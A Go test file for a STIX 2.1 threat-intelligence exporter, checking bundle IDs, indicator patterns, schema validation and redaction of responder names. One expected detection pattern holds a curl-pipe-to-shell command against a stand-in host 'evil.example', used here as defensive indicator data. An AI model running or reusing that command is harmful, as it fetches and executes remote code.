package stix_test

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"firebreak/internal/testkit"
	"firebreak/internal/testkit/reviews"
	"firebreak/review"
	"firebreak/review/stix"
)

type object = map[string]any

func bundle(t *testing.T, r review.Review) []object {
	t.Helper()
	data, err := stix.Bundle(r)
	if err != nil {
		t.Fatal(err)
	}
	var b struct {
		Type, ID string
		Objects  []object
	}
	if err := json.Unmarshal(data, &b); err != nil {
		t.Fatal(err)
	}
	if b.Type != "bundle" || !identifier.MatchString(b.ID) {
		t.Errorf("bundle %q %q", b.Type, b.ID)
	}
	return b.Objects
}

func TestEveryReviewIsABundle(t *testing.T) {
	reviews.Each(t, func(t *testing.T, r review.Review) { check(t, bundle(t, r)) })
}

func TestGolden(t *testing.T) {
	data, err := stix.Bundle(reviews.Rich(t, "k"))
	if err != nil {
		t.Fatal(err)
	}
	testkit.Golden(t, "rich.json", data)
	if again, err := stix.Bundle(reviews.Rich(t, "k")); err != nil || !bytes.Equal(data, again) {
		t.Errorf("the same review gives other bytes (%v)", err)
	}
}

// TestIDsOfTheStandard compares ids of observables with the example of STIX 2.1
// (section 2.9), and with UUIDs that another program made by its rule.
func TestIDsOfTheStandard(t *testing.T) {
	r := reviews.Rich(t, "k")
	for _, x := range []struct{ kind, value, id string }{
		{"address", `198.51.100.3`, "ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4"},
		{"address", `2001:db8::1`, "ipv6-addr--6469e3a9-b053-5e34-a025-9396ae051d26"},
		{"domain", `example.com`, "domain-name--bedb4899-d24b-5401-bc86-8f6b4cc18ec7"},
		{"mail", `john@example.com`, "email-addr--7165e2a9-671f-585d-b1e1-ca59c671d934"},
		{"url", `https://example.com/?a=1&b=2`, "url--dbd5b9e0-b7e4-5562-ba6e-5d3a7363e377"},
		{"hash", `a92e5b2bae0b4b3a3d81c85610b95cd4`, "file--6afd1c38-7ea1-50e7-a9c2-add1d41072dd"},
		{"path", `C:\Windows\System32\`, "directory--0a58d0c1-59e6-5afd-8252-dcd3f13e5622"},
		{"path", `/tmp/.x/kworkerd`, "file--47698d7e-7c38-5ddb-b08a-9b7e3af426de"},
		{"account", `svc_bad`, "user-account--a242baee-79ba-58ea-94ac-16649c8d26ac"},
	} {
		r.Indicators = r.Indicators[:1]
		r.Indicators[0].Kind, r.Indicators[0].Value = x.kind, x.value
		found := ""
		for _, o := range bundle(t, r) {
			if o["id"] == x.id {
				found = x.id
			}
		}
		if found == "" {
			t.Errorf("%s %s: no %s", x.kind, x.value, x.id)
		}
	}
}

func TestPatterns(t *testing.T) {
	want := []string{
		`[ipv4-addr:value = '203.0.113.9']`, `[ipv6-addr:value = '2001:db8::9']`, `[ipv4-addr:value ISSUBSET '198.51.100.0/24']`,
		`[domain-name:value = 'evil.example']`, `[url:value = 'https://evil.example/a?b=it\'s']`, `[email-addr:value = 'bad.guy@evil.example']`,
		`[file:hashes.'MD5' = '` + strings.Repeat("d41d8cd9", 4) + `']`, `[file:hashes.'SHA-1' = '` + strings.Repeat("d41d8cd9", 5) + `']`,
		`[file:hashes.'SHA-256' = '` + strings.Repeat("9f2c77ab", 8) + `']`, `[file:hashes.'SHA-512' = '` + strings.Repeat("9f2c77ab", 16) + `']`,
		`[file:name = 'kworkerd' AND file:parent_directory_ref.path = '/tmp/.x']`,
		`[file:name = 'evil.exe' AND file:parent_directory_ref.path = 'C:\\Users\\o\'neil']`, `[directory:path = '/dev/shm']`,
		`[process:command_line = 'sh -c \'curl http://evil.example | sh\' \\']`, `[user-account:account_login = 'svc_bad']`,
	}
	var got []string
	for _, o := range bundle(t, reviews.Rich(t, "k")) {
		if o["type"] == "indicator" {
			got = append(got, o["pattern"].(string))
		}
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// TestTwoDocumentsShareNoID looks for ids in two documents of one incident: only
// those that the standards give to the attacker's values and to the marking may be
// the same.
func TestTwoDocumentsShareNoID(t *testing.T) {
	one, two := map[string]object{}, bundle(t, reviews.Rich(t, "another key"))
	for _, o := range bundle(t, reviews.Rich(t, "one key")) {
		one[o["id"].(string)] = o
	}
	shared := 0
	for _, o := range two {
		id := o["id"].(string)
		same, ok := one[id]
		if !ok {
			continue
		}
		shared++
		if o["type"] == "marking-definition" {
			continue
		}
		value, _ := json.Marshal(same)
		for _, theirs := range []string{"10.1.2.3", "mara", "build-1", "vendor", "Mara"} {
			if bytes.Contains(value, []byte(theirs)) {
				t.Errorf("both documents have %s: %s", id, value)
			}
		}
		if o["created"] != nil {
			t.Errorf("both documents have %s, which is no observable", id)
		}
	}
	if shared < 10 {
		t.Errorf("%d ids in both: the attacker's observables are not named as the standard says", shared)
	}
}

func TestNobodyWhoRespondedIsNamed(t *testing.T) {
	data, err := stix.Bundle(reviews.Rich(t, "k"))
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"Ada", "k-ada", "DE89370400440532013000"} {
		if bytes.Contains(data, []byte(name)) {
			t.Errorf("%s is in the bundle", name)
		}
	}
}

// TestWithSchemas validates every object with the schema of its type.
func TestWithSchemas(t *testing.T) {
	dir := os.Getenv("FIREBREAK_STIX_SCHEMAS")
	if dir == "" {
		t.Skip("FIREBREAK_STIX_SCHEMAS names no folder with OASIS' schemas (repository cti-stix2-json-schemas)")
	}
	of := schemas(t, dir)
	reviews.Each(t, func(t *testing.T, r review.Review) {
		for _, o := range bundle(t, r) {
			s := of[o["type"].(string)]
			if s == nil {
				switch o["type"] {
				case "event", "impact", "task":
					s = of["core"]
				default:
					t.Fatalf("no schema for %s", o["type"])
				}
			}
			if err := s.Validate(o); err != nil {
				t.Errorf("%s: %v", o["id"], err)
			}
		}
	})
}

// TestWithExtensionSchemas validates what the incident extension defines, the
// incident with its members and the new objects, with the schema that defines it.
func TestWithExtensionSchemas(t *testing.T) {
	dir, more := os.Getenv("FIREBREAK_STIX_SCHEMAS"), os.Getenv("FIREBREAK_STIX_EXTENSIONS")
	if dir == "" || more == "" {
		t.Skip("FIREBREAK_STIX_SCHEMAS and FIREBREAK_STIX_EXTENSIONS name no folders with OASIS' schemas (repositories cti-stix2-json-schemas, cti-stix-common-objects)")
	}
	of := extensions(t, dir, more)
	seen := map[string]int{}
	reviews.Each(t, func(t *testing.T, r review.Review) {
		for _, o := range bundle(t, r) {
			kind := o["type"].(string)
			s := of[kind]
			if s == nil {
				continue
			}
			seen[kind]++
			if err := s.Validate(o); err != nil {
				t.Errorf("%s: %v", o["id"], err)
			}
		}
	})
	for kind := range of {
		if seen[kind] == 0 {
			t.Errorf("no %s was looked at", kind)
		}
	}
}

// TestWithValidator has OASIS' own program look at whole bundles, patterns and
// vocabularies included.
func TestWithValidator(t *testing.T) {
	program, err := exec.LookPath("stix2_validator")
	if err != nil {
		t.Skip("stix2_validator (pip install stix2-validator) is not there")
	}
	if os.Getenv("FIREBREAK_SOAK") == "" {
		t.Skip("it takes a minute: FIREBREAK_SOAK=1 asks for it")
	}
	dir := t.TempDir()
	reviews.Each(t, func(t *testing.T, r review.Review) {
		data, err := stix.Bundle(r)
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, strings.NewReplacer("/", "-", " ", "-").Replace(t.Name())+".json")
		if err := os.WriteFile(path, data, 0o600); err != nil {
			t.Fatal(err)
		}
	})
	if out, err := exec.Command(program, "--version", "2.1", "--silent", "--recursive", dir).CombinedOutput(); err != nil {
		t.Errorf("%v: %s", err, out)
	}
}

var identifier = regexp.MustCompile(`^[a-z][a-z0-9-]+--[0-9a-f]{8}-[0-9a-f]{4}-[45][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)
